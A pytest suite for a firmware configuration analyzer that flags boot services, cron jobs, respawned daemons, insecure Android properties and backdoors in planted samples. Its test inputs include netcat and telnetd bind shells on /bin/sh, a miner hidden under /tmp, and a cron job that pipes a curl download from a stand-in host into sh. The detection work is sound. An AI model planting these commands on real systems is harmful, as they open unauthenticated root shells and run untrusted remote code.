"""The configs analyzer: boot and scheduling configuration of the planted samples, each parser, hostile files."""

from __future__ import annotations

import random
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.analyze.base import Target
from pipeline.analyze.configs import MAX_READ, ConfigsAnalyzer
from pipeline.analyze.configs.locations import Kind, locate
from pipeline.analyze.configs.syntax import resolve, shell_commands
from pipeline.analyze.registry import analyzer_classes
from pipeline.analyze.runner import targets_of
from pipeline.config import Limits, Settings
from pipeline.model import Category, Evidence, Finding, Severity
from pipeline.store import LocalBlobStore
from pipeline.unpack import unpack

ANALYZER = ConfigsAnalyzer()
SAMPLES = Path(__file__).resolve().parents[2] / "samples" / "out"
ROOT_BOOT = ("config:boot-service", "config:root")


# --- helpers ---------------------------------------------------------------------------------------


def _analyze(tmp_path: Path, name: str, content: str | bytes, label: str = "text") -> list[Finding]:
    """Run the analyzer on ``content`` stored at in-image path ``name``; it must accept it."""
    data = content.encode() if isinstance(content, str) else content
    path = tmp_path / "blob"
    path.write_bytes(data)
    target = Target(path=path, sha256="0" * 64, size=len(data), label=label, names=(name,))
    assert ANALYZER.accepts(target), name
    return ANALYZER.analyze(target)


def _runs(findings: list[Finding]) -> set[str]:
    return {tag for f in findings for tag in f.tags if tag.startswith("runs:")}


def _brief(findings: list[Finding]) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity.value, f.title) for f in findings]


@pytest.fixture(scope="module")
def sample_findings(manifest: dict, tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], dict[str, list]]:
    """Unpack a sample once per module; {in-image name: findings} for every file the analyzer accepts."""
    settings = Settings(home=tmp_path_factory.mktemp("configs-home"), limits=Limits())
    store = LocalBlobStore(settings.store_dir)
    cache: dict[str, dict[str, list[Finding]]] = {}

    def findings_of(sample: str) -> dict[str, list[Finding]]:
        if sample not in cache:
            tree = unpack(SAMPLES / sample, store=store, settings=settings)
            cache[sample] = {",".join(t.names): ANALYZER.analyze(t)
                             for t in targets_of(tree, store) if ANALYZER.accepts(t)}
        return cache[sample]

    return findings_of


# --- the planted samples ---------------------------------------------------------------------------


def test_registered() -> None:
    assert ConfigsAnalyzer in analyzer_classes()
    assert (ConfigsAnalyzer.name, ConfigsAnalyzer.version, ConfigsAnalyzer.path_sensitive) == ("configs", "1", True)


def test_backdoor_rootfs(sample_findings: Callable) -> None:
    found = sample_findings("linux-rootfs-backdoor.squashfs")
    assert sorted(found) == ["/etc/init.d/S50dropbear", "/etc/init.d/S99syncd", "/etc/init.d/rcS", "/etc/inittab"]
    assert _runs([f for fs in found.values() for f in fs]) == {
        "runs:/etc/init.d/rcS", "runs:/sbin/getty", "runs:/usr/sbin/dropbear", "runs:/usr/sbin/syncd"}
    assert found["/etc/init.d/rcS"] == []  # mount lines and a loop over S??*: nothing named to start
    # "#!/bin/sh\n" + "# cloud sync daemon\n" + 'case "$1" in\n' = 43 bytes before the start arm
    assert found["/etc/init.d/S99syncd"] == [Finding(
        rule="configs:boot-service", analyzer="configs", category=Category.PERSISTENCE, severity=Severity.LOW,
        title="Started at boot as root: /usr/sbin/syncd",
        tags=("config:boot-service", "config:root", "runs-name:syncd", "runs:/usr/sbin/syncd", "user:root",
              "via:init-script"),
        evidence=(Evidence("config", "start) start-stop-daemon -S -b -q -x /usr/sbin/syncd ;;", 43),),
        description="boot script /etc/init.d/S99syncd")]
    assert _brief(found["/etc/inittab"]) == [
        ("configs:boot-service", "low", "Started at boot as root: /etc/init.d/rcS"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /sbin/getty")]
    getty = found["/etc/inittab"][1]
    assert getty.tags == ("config:boot-service", "config:respawn", "config:root", "runs-name:getty",
                          "runs:/sbin/getty", "user:root", "via:inittab")
    assert getty.evidence == (Evidence("config", "::respawn:/sbin/getty -L ttyS0 115200 vt100", 26),)


def test_router_crontab(sample_findings: Callable) -> None:
    found = sample_findings("router-netupdate.squashfs")
    assert _runs([f for fs in found.values() for f in fs]) == {
        "runs:/etc/init.d/rcS", "runs:/sbin/getty", "runs:/usr/bin/netupdate"}
    assert found["/etc/crontab"] == [Finding(
        rule="configs:cron", analyzer="configs", category=Category.PERSISTENCE, severity=Severity.LOW,
        title="Scheduled as root (17 3 * * *; */30 * * * *): /usr/bin/netupdate",
        tags=("config:cron", "config:root", "runs-name:netupdate", "runs:/usr/bin/netupdate", "user:root",
              "via:crontab"),
        evidence=(Evidence("config", "17 3 * * * root /usr/bin/netupdate", 31),
                  Evidence("config", "*/30 * * * * root /usr/bin/netupdate --time", 66)),
        description="crontab schedule '17 3 * * *'; crontab schedule '*/30 * * * *'")]


def test_jffs2_beacon(sample_findings: Callable) -> None:
    found = sample_findings("linux-rootfs.jffs2")
    assert _runs([f for fs in found.values() for f in fs]) == {
        "runs:/etc/init.d/rcS", "runs:/sbin/getty", "runs:/usr/bin/beacon"}
    assert _brief(found["/etc/init.d/S90beacon"]) == [
        ("configs:boot-service", "low", "Started at boot as root: /usr/bin/beacon")]


def test_android_ota(sample_findings: Callable) -> None:
    found = sample_findings("android-ota-update.zip")
    assert sorted(found) == ["/default.prop", "/init.environ.rc", "/init.rc", "/system/build.prop",
                             "/system/etc/init/logsvc.rc"]
    assert found["/default.prop"] == [] and found["/init.environ.rc"] == []  # secure defaults; no service
    logsvc_evidence = (Evidence("config", "service logsvc /system/bin/logsvc", 0),
                       Evidence("config", "class main", 34), Evidence("config", "user root", 49),
                       Evidence("config", "group root radio inet", 63), Evidence("config", "seclabel u:r:su:s0", 89))
    assert found["/system/etc/init/logsvc.rc"] == [
        Finding(rule="configs:respawn", analyzer="configs", category=Category.PERSISTENCE, severity=Severity.LOW,
                title="Started at boot as root and respawned: /system/bin/logsvc",
                tags=("config:boot-service", "config:respawn", "config:root", "runs-name:logsvc",
                      "runs:/system/bin/logsvc", "seclabel:u:r:su:s0", "user:root", "via:android-init"),
                evidence=logsvc_evidence,
                description="init service 'logsvc'; class main; restarted by init when it exits; "
                            "SELinux domain u:r:su:s0; groups root radio inet"),
        Finding(rule="configs:unconfined-service", analyzer="configs", category=Category.PRIVILEGE,
                severity=Severity.MEDIUM, title="Service runs in SELinux domain u:r:su:s0: /system/bin/logsvc",
                tags=("config:unconfined", "runs-name:logsvc", "runs:/system/bin/logsvc", "seclabel:u:r:su:s0",
                      "user:root"),
                evidence=logsvc_evidence, description=found["/system/etc/init/logsvc.rc"][1].description),
    ]
    init_rc = found["/init.rc"]
    assert _brief(init_rc) == [
        ("configs:respawn", "low", "Started at boot as root and respawned: /sbin/adbd"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /sbin/ueventd")]
    assert _runs(init_rc) == {"runs:/sbin/adbd", "runs:/sbin/ueventd"}
    assert "'start' on 'property:sys.usb.config=adb'" in init_rc[0].description  # disabled, started by trigger
    assert [e.value for e in init_rc[0].evidence] == [
        "service adbd /sbin/adbd --root_seclabel=u:r:su:s0", "class core", "disabled", "seclabel u:r:adbd:s0",
        "start adbd"]
    build = found["/system/build.prop"]
    assert _brief(build) == [("configs:android-build", "info", "Android build: XPhone X-Phone S10, Android 8.1.0, "
                                                               "MT6580")]
    assert build[0].category is Category.PROPERTY and build[0].tags == ("config:build-prop",)
    assert "ro.build.fingerprint=XPhone/full_x_s10/x_s10:8.1.0/O11019/1700000000:user/release-keys" in [
        e.value for e in build[0].evidence]


# --- each parser -----------------------------------------------------------------------------------


def test_inittab_actions(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/inittab", (
        "# comment\n"
        "id:3:initdefault:\n"
        "si::sysinit:/etc/rc.d/rc.sysinit\n"
        "l3:3:wait:/etc/rc.d/rc 3\n"
        "ttyS0::respawn:/sbin/getty -L ttyS0 115200\n"
        "tty1::askfirst:-/bin/sh\n"
        "::ctrlaltdel:/sbin/reboot\n"
        "::shutdown:/bin/umount -a -r\n"
        "::respawn:/usr/bin/nohup /opt/x/agent --quiet\n"
        "broken line without fields\n"))
    assert _brief(findings) == [
        ("configs:boot-service", "low", "Started at boot as root: /etc/rc.d/rc"),
        ("configs:boot-service", "low", "Started at boot as root: /etc/rc.d/rc.sysinit"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /bin/sh"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /opt/x/agent"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /sbin/getty")]
    assert findings[1].description == "inittab action 'sysinit'"
    assert findings[0].description == "inittab action 'wait', runlevels 3"


DEBIAN_SCRIPT = """#!/bin/sh
### BEGIN INIT INFO
# Provides:          agentd
# Default-Start:     2 3 4 5
### END INIT INFO
DAEMON=/usr/sbin/agentd
RUNAS=nobody
test -x $DAEMON || exit 0

do_start() {
\tstart-stop-daemon --start --quiet --chuid $RUNAS --exec $DAEMON -- --foreground
}

do_stop() {
\tstart-stop-daemon --stop --quiet --exec $DAEMON
\t/usr/sbin/agentd --shutdown
}

case "$1" in
  start|restart)
\tdo_start
\t;;
  stop)
\t/usr/sbin/agentctl stop
\t;;
  *)
\techo "Usage: $0 {start|stop}" >&2
\t/usr/bin/usage-helper
\texit 3
\t;;
esac
"""


def test_lsb_init_script(tmp_path: Path) -> None:
    """Variables expanded, --chuid honoured, stop function, stop arm and usage arm skipped."""
    findings = _analyze(tmp_path, "/etc/init.d/agentd", DEBIAN_SCRIPT)
    assert [(f.rule, f.severity, f.title, f.tags) for f in findings] == [
        ("configs:boot-service", Severity.INFO, "Started at boot as nobody: /usr/sbin/agentd",
         ("config:boot-service", "runs-name:agentd", "runs:/usr/sbin/agentd", "user:nobody", "via:init-script"))]
    assert findings[0].description == "init script with Default-Start: 2 3 4 5 (LSB)"
    assert findings[0].evidence[0].value.startswith("start-stop-daemon --start --quiet --chuid $RUNAS")


def test_init_script_not_enabled_is_declared_only(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/init.d/helper", "#!/bin/sh\n/usr/bin/helperd -d &\n")
    assert [(f.rule, f.category, f.severity, f.title) for f in findings] == [
        ("configs:service", Category.PROPERTY, Severity.INFO,
         "Declared service, runs as root when started: /usr/bin/helperd")]
    assert "config:boot-service" not in findings[0].tags and "config:service" in findings[0].tags


def test_openwrt_procd(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/init.d/dropbear", (
        "#!/bin/sh /etc/rc.common\nSTART=19\nUSE_PROCD=1\nPROG=/usr/sbin/dropbear\n"
        "start_service() {\n\tprocd_open_instance\n\tprocd_set_param command \"$PROG\" -F -P /var/run/db.pid\n"
        "\tprocd_set_param respawn\n\tprocd_close_instance\n}\n"
        "stop_service() { /usr/bin/other-stop; }\n"))
    assert _brief(findings) == [("configs:respawn", "low", "Started at boot as root and respawned: /usr/sbin/dropbear")]
    assert findings[0].description == "init script with START=19 (OpenWrt rc.common, enabled by default)"


def test_rc_local_shell_listener(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/rc.local", (
        "#!/bin/sh\n"
        "telnetd -l /bin/sh -p 2323 &\n"
        "/bin/busybox nc -ll -p 4444 -e /bin/sh &\n"
        "nohup /opt/agent/run.sh >/dev/null 2>&1 &\n"
        "sh -c \"cd /tmp && /tmp/.x/miner -o pool\"\n"
        "mkdir -p /var/run\n"
        "exit 0\n"))
    assert _brief(findings) == [
        ("configs:boot-service", "low", "Started at boot as root: /bin/busybox nc"),
        ("configs:boot-service", "low", "Started at boot as root: /opt/agent/run.sh"),
        ("configs:boot-service", "low", "Started at boot as root: /tmp/.x/miner"),
        ("configs:boot-service", "low", "Started at boot as root: telnetd"),
        ("configs:shell-listener", "high", "Started as root: network shell without login (/bin/busybox nc)"),
        ("configs:shell-listener", "high", "Started as root: network shell without login (telnetd)")]
    telnetd = findings[3]
    assert "runs-name:telnetd" in telnetd.tags and not _runs([telnetd])  # a bare name: no runs: path
    assert findings[0].tags == ("applet:nc", "config:boot-service", "config:root", "runs-name:busybox",
                                "runs:/bin/busybox", "user:root", "via:init-script")
    assert findings[4].category is Category.EXECUTION


def test_user_crontab(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/var/spool/cron/crontabs/admin", (
        "SHELL=/bin/sh\nMAILTO=\"\"\n"
        "@reboot /home/admin/bin/start.sh\n"
        "5 4 * * sun /usr/bin/backup --all % stdin text\n"
        "0 */2 * * * cd /tmp && /usr/bin/curl -s http://x.example/a | sh\n"
        "this is some text with six words\n"))
    assert _brief(findings) == [
        ("configs:boot-service", "info", "Started at boot as admin: /home/admin/bin/start.sh"),
        ("configs:cron", "info", "Scheduled as admin (0 */2 * * *): /usr/bin/curl"),
        ("configs:cron", "info", "Scheduled as admin (0 */2 * * *): sh"),
        ("configs:cron", "info", "Scheduled as admin (5 4 * * sun): /usr/bin/backup")]
    assert "config:cron" in findings[0].tags and "config:root" not in findings[0].tags


def test_systemd_unit(tmp_path: Path) -> None:
    unit = ("[Unit]\nDescription=Agent\n[Service]\nUser=nobody\nExecStartPre=/bin/true\n"
            "ExecStart=/usr/bin/agent --config \"/etc/agent conf.yml\"\nExecStart=+/usr/bin/agent-helper\n"
            "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
    findings = _analyze(tmp_path, "/etc/systemd/system/agent.service", unit)
    assert _brief(findings) == [
        ("configs:respawn", "info", "Started at boot as nobody and respawned: /usr/bin/agent"),
        ("configs:respawn", "low", "Started at boot as root and respawned: /usr/bin/agent-helper")]
    assert findings[0].description == "systemd unit wanted by multi-user.target (when enabled); Restart=always"
    static = _analyze(tmp_path, "/lib/systemd/system/journald.service", "[Service]\nExecStart=/lib/systemd/jd\n")
    assert _brief(static) == [("configs:service", "info", "Declared service, runs as root when started: "
                                                          "/lib/systemd/jd")]


VENDOR_RC = """on post-fs-data
    exec - system system -- /vendor/bin/init_setup.sh
    start vendor.x
on charger
    start chargeonlymode
service vendor.x /system/bin/sh /vendor/bin/x.sh
    class late_start
    user system
    oneshot
    disabled
service chargeonlymode /system/bin/kpoc_charger
    class charger
service dbg /system/xbin/dbgd
    disabled
service agent /vendor/bin/agent "quoted arg" \\
    --more
    capabilities NET_RAW NET_ADMIN
"""


def test_android_vendor_rc(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/vendor/etc/init/hw/init.mt6580.rc", VENDOR_RC)
    assert [(f.rule, f.category, f.severity, f.title) for f in findings] == [
        ("configs:boot-service", Category.PERSISTENCE, Severity.INFO,
         "Started at boot as system: /vendor/bin/init_setup.sh"),
        ("configs:boot-service", Category.PERSISTENCE, Severity.INFO, "Started at boot as system: /vendor/bin/x.sh"),
        ("configs:respawn", Category.PERSISTENCE, Severity.LOW,
         "Started at boot as root and respawned: /vendor/bin/agent"),
        ("configs:service", Category.PROPERTY, Severity.INFO,
         "Declared service, runs as root when started: /system/bin/kpoc_charger"),
        ("configs:service", Category.PROPERTY, Severity.INFO,
         "Declared service, runs as root when started: /system/xbin/dbgd")]
    agent = findings[2]
    assert {"capability:NET_RAW", "capability:NET_ADMIN"} <= set(agent.tags)
    assert agent.evidence[0] == Evidence("config", 'service agent /vendor/bin/agent "quoted arg" --more',
                                         VENDOR_RC.index("service agent"))  # continued line joined


def test_insecure_props(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/default.prop", (
        "ro.secure=0\nro.adb.secure=0\nro.debuggable=1\npersist.sys.usb.config=mtp,adb\n"
        "ro.build.tags=test-keys\nro.build.type=userdebug\nro.secure=1\n"))
    assert [(f.rule, f.category, f.severity, f.tags) for f in findings] == [
        ("configs:adb-enabled", Category.PROPERTY, Severity.INFO,
         ("config:build-prop", "prop:persist.sys.usb.config=mtp,adb")),
        ("configs:adb-no-auth", Category.PRIVILEGE, Severity.LOW, ("config:build-prop", "prop:ro.adb.secure=0")),
        ("configs:adb-root", Category.PRIVILEGE, Severity.LOW, ("config:build-prop", "prop:ro.secure=0")),
        ("configs:debug-build", Category.PROPERTY, Severity.INFO,
         ("config:build-prop", "prop:ro.build.type=userdebug")),
        ("configs:debuggable", Category.PRIVILEGE, Severity.LOW, ("config:build-prop", "prop:ro.debuggable=1")),
        ("configs:test-keys", Category.PROPERTY, Severity.INFO, ("config:build-prop", "prop:ro.build.tags=test-keys"))]
    assert findings[2].evidence == (Evidence("config", "ro.secure=0", 0),)  # the first ro. definition wins


def test_elf_stored_as_boot_script(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/init.d/S98hidden", b"\x7fELF\x01\x01\x01" + bytes(60), label="elf")
    assert [(f.rule, f.title, f.evidence) for f in findings] == [
        ("configs:boot-service", "Started at boot as root: /etc/init.d/S98hidden",
         (Evidence("path", "/etc/init.d/S98hidden"),))]
    assert "via:boot-directory" in findings[0].tags


def test_locations() -> None:
    kinds = {name: (loc.kind, loc.boot, loc.user) if (loc := locate(name)) else None for name in (
        "/init.rc", "/init.mt6580.rc", "/system/etc/init/hw/init.rc", "/vendor/etc/init/x.rc", "/etc/init/logsvc.rc",
        "/etc/inittab", "etc/inittab", "./etc/init.d/S10net", "/etc/init.d/K10net", "/etc/init.d/functions",
        "/etc/rc.d/rc3.d/S20x", "/etc/rc.local", "/system/etc/install-recovery.sh", "/etc/crontab",
        "/etc/cron.d/php", "/etc/crontabs/root", "/etc/crontabs/cron.update", "/var/spool/cron/crontabs/admin",
        "/etc/cron.daily/logrotate", "/lib/systemd/system/ssh.service", "/usr/lib/systemd/user/x.service",
        "/system/build.prop", "/vendor/default.prop", "/usr/share/doc/init.rc/x", "/etc/passwd")}
    assert kinds == {
        "/init.rc": (Kind.ANDROID_INIT, False, None), "/init.mt6580.rc": (Kind.ANDROID_INIT, False, None),
        "/system/etc/init/hw/init.rc": (Kind.ANDROID_INIT, False, None),
        "/vendor/etc/init/x.rc": (Kind.ANDROID_INIT, False, None),
        "/etc/init/logsvc.rc": (Kind.ANDROID_INIT, False, None), "/etc/inittab": (Kind.INITTAB, False, None),
        "etc/inittab": (Kind.INITTAB, False, None), "./etc/init.d/S10net": (Kind.INIT_SCRIPT, True, None),
        "/etc/init.d/K10net": None, "/etc/init.d/functions": None,
        "/etc/rc.d/rc3.d/S20x": (Kind.INIT_SCRIPT, True, None), "/etc/rc.local": (Kind.INIT_SCRIPT, True, None),
        "/system/etc/install-recovery.sh": (Kind.INIT_SCRIPT, True, None),
        "/etc/crontab": (Kind.CRONTAB, False, None), "/etc/cron.d/php": (Kind.CRONTAB, False, None),
        "/etc/crontabs/root": (Kind.CRONTAB, False, "root"), "/etc/crontabs/cron.update": None,
        "/var/spool/cron/crontabs/admin": (Kind.CRONTAB, False, "admin"),
        "/etc/cron.daily/logrotate": (Kind.CRON_SCRIPT, False, None),
        "/lib/systemd/system/ssh.service": (Kind.SYSTEMD, False, None), "/usr/lib/systemd/user/x.service": None,
        "/system/build.prop": (Kind.PROPS, False, None), "/vendor/default.prop": (Kind.PROPS, False, None),
        "/usr/share/doc/init.rc/x": None, "/etc/passwd": None}


def test_accepts() -> None:
    def target(label: str, size: int = 100, names: tuple[str, ...] = ("/etc/inittab",), container: bool = False):
        return Target(path=Path("/nonexistent"), sha256="0" * 64, size=size, label=label, names=names,
                      container=container)

    assert ANALYZER.accepts(target("text"))
    assert ANALYZER.accepts(target("text", size=50 * MAX_READ))  # read up to the cap
    assert ANALYZER.accepts(target("data"))
    assert not ANALYZER.accepts(target("data", size=MAX_READ + 1))
    assert not ANALYZER.accepts(target("text", size=0))
    assert not ANALYZER.accepts(target("text", names=("/etc/passwd",)))
    assert not ANALYZER.accepts(target("text", names=()))
    assert not ANALYZER.accepts(target("gzip", container=True))
    assert not ANALYZER.accepts(target("elf"))  # an ELF named inittab is not started by it
    assert ANALYZER.accepts(target("elf", names=("/etc/init.d/S99x",)))


def test_command_resolution() -> None:
    def runs(line: str) -> list[str]:
        return [e.display for c in shell_commands(line) if (e := resolve(c.words))]

    assert runs("/system/bin/sh /system/bin/foo.sh arg") == ["/system/bin/foo.sh"]
    assert runs("FOO=1 nohup nice -n 5 /usr/bin/x >/dev/null 2>&1 &") == ["/usr/bin/x"]
    assert runs("busybox sh -c 'exec /usr/sbin/y -f'") == ["/usr/sbin/y"]
    assert runs("/bin/toybox nc -l -p 1") == ["/bin/toybox nc"]
    assert runs("[ -x /usr/sbin/z ] && /usr/sbin/z; echo done") == ["/usr/sbin/z", "echo"]  # "[" is no name
    assert runs("env -u HOME A=b /opt/p 'quoted arg'") == ["/opt/p"]


# --- hostile files ---------------------------------------------------------------------------------


def test_binary_junk_named_init_rc(tmp_path: Path) -> None:
    junk = random.Random(7).randbytes(64 * 1024)
    findings = _analyze(tmp_path, "/init.rc", junk, label="data")
    assert [(f.rule, f.category, f.severity, f.title) for f in findings] == [
        ("configs:not-text", Category.PROPERTY, Severity.INFO, "Not a text file: /init.rc was not parsed")]


def test_ten_megabyte_crontab(tmp_path: Path) -> None:
    line = "17 3 * * * root /usr/bin/netupdate\n"
    started = time.perf_counter()
    findings = _analyze(tmp_path, "/etc/crontab", line * (10 * 1024 * 1024 // len(line)))
    elapsed = time.perf_counter() - started
    assert _brief(findings) == [
        ("configs:cron", "low", "Scheduled as root (17 3 * * *): /usr/bin/netupdate"),
        ("configs:partial", "info", "Only the first 1024 KiB or 20000 lines read")]
    assert [e.offset for e in findings[0].evidence] == [i * len(line) for i in range(8)]
    assert findings[0].description.endswith("more lines not listed")
    assert elapsed < 5


def test_many_programs_capped(tmp_path: Path) -> None:
    findings = _analyze(tmp_path, "/etc/init.d/S99many", "".join(f"/usr/bin/p{i} &\n" for i in range(500)))
    assert len(findings) == 201
    assert ("configs:partial", "info", "Only the first 200 of 500 started programs reported") in _brief(findings)
    assert "runs:/usr/bin/p199" in _runs(findings) and "runs:/usr/bin/p200" not in _runs(findings)


def test_unterminated_quotes(tmp_path: Path) -> None:
    script = _analyze(tmp_path, "/etc/init.d/S10q", "#!/bin/sh\n/usr/bin/a 'never closed &\n/usr/bin/b \"x\n")
    assert _brief(script) == [("configs:boot-service", "low", "Started at boot as root: /usr/bin/a"),
                              ("configs:boot-service", "low", "Started at boot as root: /usr/bin/b")]
    rc = _analyze(tmp_path, "/init.rc", 'service q "/system/bin/q\n    class main\nservice r /bin/r "\n')
    assert _brief(rc) == [("configs:respawn", "low", "Started at boot as root and respawned: /bin/r"),
                          ("configs:respawn", "low", "Started at boot as root and respawned: /system/bin/q")]


def test_crlf_lines(tmp_path: Path) -> None:
    lf = _analyze(tmp_path, "/etc/crontab", "# header\n*/5 * * * * root /usr/bin/job --x\n")
    crlf = _analyze(tmp_path, "/etc/crontab", "# header\r\n*/5 * * * * root /usr/bin/job --x\r\n")
    assert _brief(crlf) == _brief(lf) == [("configs:cron", "low", "Scheduled as root (*/5 * * * *): /usr/bin/job")]
    assert crlf[0].evidence == (Evidence("config", "*/5 * * * * root /usr/bin/job --x", 10),)
    assert lf[0].evidence == (Evidence("config", "*/5 * * * * root /usr/bin/job --x", 9),)


def test_nul_bytes(tmp_path: Path) -> None:
    """A few NULs in a text script: parsed, a NUL ends a word (as exec would), evidence shows it escaped."""
    data = b"#!/bin/sh\n/usr/sbin/sy\x00ncd -d &\n\x00\x00\n" + b"# an ordinary comment line\n" * 4
    findings = _analyze(tmp_path, "/etc/init.d/S20n", data)
    assert _brief(findings) == [("configs:boot-service", "low", "Started at boot as root: /usr/sbin/sy")]
    assert findings[0].evidence == (Evidence("config", "/usr/sbin/sy\\x00ncd -d &", 10),)
    assert not any("\x00" in tag for tag in findings[0].tags)


def test_pathological_shapes_are_fast(tmp_path: Path) -> None:
    shapes = {
        "/etc/init.d/S1": b"start() {\n" * 100_000,
        "/etc/init.d/S2": b"case x in\nstart)\n" * 50_000,
        "/etc/init.d/S3": b'"' * MAX_READ,
        "/etc/init.d/S4": b"/usr/bin/a " + b"x " * (MAX_READ // 2 - 8) + b"&",
        "/init.rc": b"service a /bin/a\\\n" * 60_000,
        "/etc/inittab": b"::respawn:" + b"/a " * 300_000,
    }
    for name, data in shapes.items():
        started = time.perf_counter()
        findings = _analyze(tmp_path, name, data)
        assert time.perf_counter() - started < 3, name
        assert all(len(e.value) <= 301 for f in findings for e in f.evidence), name


def test_deterministic(tmp_path: Path) -> None:
    assert _analyze(tmp_path, "/vendor/etc/init/a.rc", VENDOR_RC) == _analyze(tmp_path, "/vendor/etc/init/a.rc",
                                                                               VENDOR_RC)


FUZZ_NAMES = ("/init.rc", "/etc/inittab", "/etc/init.d/S50x", "/etc/crontab", "/etc/crontabs/admin",
              "/etc/cron.daily/x", "/lib/systemd/system/x.service", "/system/build.prop")
TOKENS = [*"abc/ &|;()<>'\"\\$={}#*:@%-\t\r\n\x00", "start)", ";;", "esac", "service ", "on boot", "exec "]
SHELLISH = st.lists(st.sampled_from(TOKENS), min_size=1, max_size=200).map("".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(FUZZ_NAMES), text=SHELLISH)
def test_never_crashes(tmp_path: Path, name: str, text: str) -> None:
    """Any text at any configuration path gives well-formed findings, never an exception."""
    for finding in _analyze(tmp_path, name, text):
        finding.to_dict()
        assert finding.analyzer == "configs" and finding.rule.startswith("configs:")
        assert all(e.offset is None or 0 <= e.offset < len(text.encode()) for e in finding.evidence)
